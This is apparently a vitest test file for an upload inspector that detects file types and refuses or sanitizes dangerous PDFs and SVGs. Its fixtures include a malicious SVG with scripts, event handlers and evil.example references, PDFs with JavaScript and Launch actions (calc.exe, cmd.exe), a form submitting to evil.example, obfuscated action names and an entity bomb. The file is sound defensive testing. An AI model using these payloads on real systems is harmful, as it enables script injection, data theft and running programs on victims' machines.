import { describe, expect, it } from 'vitest';
import {
  cleanSvg,
  pdfWithHiddenAnnotation,
  tinyDocx,
  tinyJpeg,
  tinyPdf,
  tinyPng,
  zipOf,
} from '../../../test/support/files.js';
import { DOCX_TYPE, inspectUpload } from './sniff.js';
import type { UploadProblem } from './upload-error.js';

async function problemOf(promise: Promise<unknown>): Promise<UploadProblem> {
  const error = await promise.then(
    () => null,
    (e: unknown) => e,
  );
  if (!error || typeof error !== 'object' || !('problem' in error)) throw new Error(`expected a refusal, got ${error}`);
  return error.problem as UploadProblem;
}

const EVIL_SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100" onload="alert('onload')">
<style>.a{fill:red}</style>
<style>@import url(http://evil.example/x.css); .b{fill:url(http://evil.example/y)}</style>
<script>alert('script')</script>
<script xlink:href="http://evil.example/s.js"/>
<a xlink:href="javascript:alert('a')"><rect class="a" width="10" height="10" onclick="alert('click')"/></a>
<image href="http://evil.example/track.png" width="10" height="10"/>
<image xlink:href="https://evil.example/track2.png" width="10" height="10"/>
<image href="data:image/png;base64,iVBORw0KGgo=" width="10" height="10"/>
<use href="#shape"/><use xlink:href="http://evil.example/sprite.svg#a"/>
<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">html<iframe src="http://evil.example/"/></div></foreignObject>
<animate attributeName="href" to="javascript:alert('animate')"/>
<set attributeName="onmouseover" to="alert('set')"/>
<text x="1" y="20" style="fill:url(http://evil.example/z)" fill="url(http://evil.example/w)">Logo &amp; co</text>
<path id="shape" d="M0 0L10 10" fill="url(#g)"/>
<linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>
<filter id="f"><feImage href="http://evil.example/f.png"/></filter>
</svg>`;

describe('inspectUpload: the bytes decide, never the name', () => {
  it('accepts PNG, JPEG and SVG logos with the media type found in the bytes', async () => {
    expect((await inspectUpload('logo', tinyPng())).mediaType).toBe('image/png');
    expect((await inspectUpload('logo', tinyJpeg())).mediaType).toBe('image/jpeg');
    expect((await inspectUpload('logo', Buffer.from(cleanSvg))).mediaType).toBe('image/svg+xml');
  });

  it('accepts PDF and DOCX documents', async () => {
    expect((await inspectUpload('document', tinyPdf())).mediaType).toBe('application/pdf');
    expect((await inspectUpload('document', await tinyDocx())).mediaType).toBe(DOCX_TYPE);
  });

  it('refuses a PNG offered as a document, naming what it is', async () => {
    expect(await problemOf(inspectUpload('document', tinyPng()))).toEqual({ code: 'wrongType', found: 'PNG' });
    expect(await problemOf(inspectUpload('logo', tinyPdf()))).toEqual({ code: 'wrongType', found: 'PDF' });
    expect(await problemOf(inspectUpload('logo', Buffer.from('just text')))).toEqual({
      code: 'wrongType',
      found: null,
    });
  });

  it('refuses a ZIP of something else, and a ZIP with Word’s file name but no Word content type', async () => {
    expect(await problemOf(inspectUpload('document', await zipOf({ 'notes.txt': 'hello' })))).toEqual({
      code: 'docxNotWord',
    });
    const fake = await zipOf({ 'word/document.xml': '<w:document/>', '[Content_Types].xml': '<Types/>' });
    expect(await problemOf(inspectUpload('document', fake))).toEqual({ code: 'docxNotWord' });
  });

  it('refuses files that only start like a PDF, PNG or JPEG', async () => {
    expect(await problemOf(inspectUpload('document', Buffer.from('%PDF-1.7\nnothing else')))).toEqual({
      code: 'pdfInvalid',
    });
    expect(await problemOf(inspectUpload('logo', tinyPng().subarray(0, 40)))).toEqual({ code: 'imageBroken' });
    expect(await problemOf(inspectUpload('logo', tinyJpeg().subarray(0, 60)))).toEqual({ code: 'imageBroken' });
    expect(await problemOf(inspectUpload('logo', Buffer.alloc(0)))).toEqual({ code: 'empty' });
  });

  it('refuses a PDF that runs JavaScript when opened', async () => {
    const scripted = tinyPdf('x', '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ');
    expect(await problemOf(inspectUpload('document', scripted))).toEqual({ code: 'pdfScripts' });
  });

  /** A page with one link annotation whose action is `action`. */
  const linkWith = (action: string) =>
    tinyPdf('x', '', {
      page: '/Annots [5 0 R] ',
      objects: [`<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] ${action} >>`],
    });

  it('refuses a PDF with JavaScript in a link annotation, its /A or its /AA', async () => {
    for (const action of [
      '/A << /S /JavaScript /JS (app.alert\\(1\\)) >>',
      '/AA << /E << /S /JavaScript /JS (app.alert\\(2\\)) >> >>',
      // The same name spelled with an escape, as malware does to slip past a plain text search.
      '/A << /S /J#61vaScript /J#53 (app.alert\\(3\\)) >>',
    ]) {
      expect(await problemOf(inspectUpload('document', linkWith(action))), action).toEqual({ code: 'pdfScripts' });
    }
    // Anywhere else too: a form field's action, the document's names tree.
    const field = tinyPdf('x', '/AcroForm << /Fields [5 0 R] >> ', {
      objects: ['<< /FT /Btn /T (go) /A << /S /JavaScript /JS (app.alert\\(4\\)) >> >>'],
    });
    expect(await problemOf(inspectUpload('document', field))).toEqual({ code: 'pdfScripts' });
    const named = tinyPdf('x', '/Names << /JavaScript 5 0 R >> ', {
      objects: ['<< /Names [(a) << /S /JavaScript /JS (app.alert\\(5\\)) >>] >>'],
    });
    expect(await problemOf(inspectUpload('document', named))).toEqual({ code: 'pdfScripts' });
  });

  it('refuses a PDF with a Launch action, a form that submits or imports data, or an attached file', async () => {
    for (const action of [
      '/A << /S /Launch /F (calc.exe) >>',
      '/A << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>',
      '/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>',
      '/A << /S /ImportData /F (data.fdf) >>',
    ]) {
      expect(await problemOf(inspectUpload('document', linkWith(action))), action).toEqual({ code: 'pdfActions' });
    }
    const attached = tinyPdf('x', '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ', {
      objects: [
        '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>',
        '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
      ],
    });
    expect(await problemOf(inspectUpload('document', attached))).toEqual({ code: 'pdfActions' });
  });

  it('finds a Launch action packed in a compressed object stream', async () => {
    const hidden = pdfWithHiddenAnnotation(
      '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>',
    );
    expect(await problemOf(inspectUpload('document', hidden))).toEqual({ code: 'pdfActions' });
  });

  it('accepts links to web pages and pages, and text that only mentions /JavaScript or /Launch', async () => {
    const links = [
      linkWith('/A << /S /URI /URI (https://example.org/docs/Web/JavaScript) >>'),
      linkWith('/Dest [3 0 R /Fit]'),
      tinyPdf('Launch of the report \\(see /Launch and /JavaScript\\)'),
      pdfWithHiddenAnnotation(
        '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org/) >> >>',
      ),
    ];
    for (const pdf of links) expect((await inspectUpload('document', pdf)).mediaType).toBe('application/pdf');
  });

  it('accepts an Illustrator SVG whose styles sit in <![CDATA[…]]>, sanitized like any other style', async () => {
    const illustrator = `<?xml version="1.0" encoding="utf-8"?>
<svg version="1.1" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">
<style type="text/css"><![CDATA[
	.st0{fill:#1A4F8B;}
	.st1{fill:url(http://evil.example/x);}
]]></style>
<style type="text/css"><![CDATA[ .st2 > .st3 { fill: #fff } ]]></style>
<circle class="st0" cx="5" cy="5" r="4"/></svg>`;
    const svg = (await inspectUpload('logo', Buffer.from(illustrator))).bytes.toString('utf8');
    expect(svg).toContain('class="st0"');
    // The style with an external reference is emptied, the other kept (escaped as XML text, which means the same).
    expect(svg).not.toContain('evil.example');
    expect(svg).toContain('.st2 &gt; .st3 { fill: #fff }');
    expect(svg).not.toContain('CDATA');
  });

  it('stops reading a logo past the worker’s time limit (100 000 nested groups) and refuses it as too complex', {
    timeout: 60_000,
  }, async () => {
    const n = 100_000;
    const nested = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(n)}${'</g>'.repeat(n)}</svg>`);
    expect(await problemOf(inspectUpload('logo', nested))).toEqual({ code: 'tooComplex' });
    // The worker that was stopped is replaced: the next logo is read as usual.
    expect((await inspectUpload('logo', Buffer.from(cleanSvg))).mediaType).toBe('image/svg+xml');
  });

  it('refuses SVGs that are not well-formed, or carry a DTD (entity bombs)', async () => {
    expect(
      await problemOf(inspectUpload('logo', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><g></svg>'))),
    ).toEqual({ code: 'svgInvalid' });
    const bomb =
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>';
    expect(await problemOf(inspectUpload('logo', Buffer.from(bomb)))).toEqual({ code: 'svgDoctype' });
  });

  it('cleans an SVG of scripts, handlers, javascript: and external references, and foreignObject', async () => {
    const { bytes } = await inspectUpload('logo', Buffer.from(EVIL_SVG));
    const svg = bytes.toString('utf8');
    for (const gone of [
      '<script',
      'alert',
      'onload',
      'onclick',
      'javascript:',
      'evil.example',
      'foreignObject',
      'iframe',
      '<animate',
      '<set',
      'feImage',
      '@import',
    ]) {
      expect(svg, gone).not.toContain(gone);
    }
    // What a logo needs is kept: shapes, text, local references, gradients, embedded PNGs, the harmless style.
    for (const kept of [
      '<rect class="a"',
      'Logo &amp; co',
      'href="#shape"',
      'fill="url(#g)"',
      '<linearGradient id="g"',
      'data:image/png;base64',
      '.a{fill:red}',
    ]) {
      expect(svg, kept).toContain(kept);
    }
    expect(svg.startsWith('<svg xmlns="http://www.w3.org/2000/svg"')).toBe(true);
  });
});
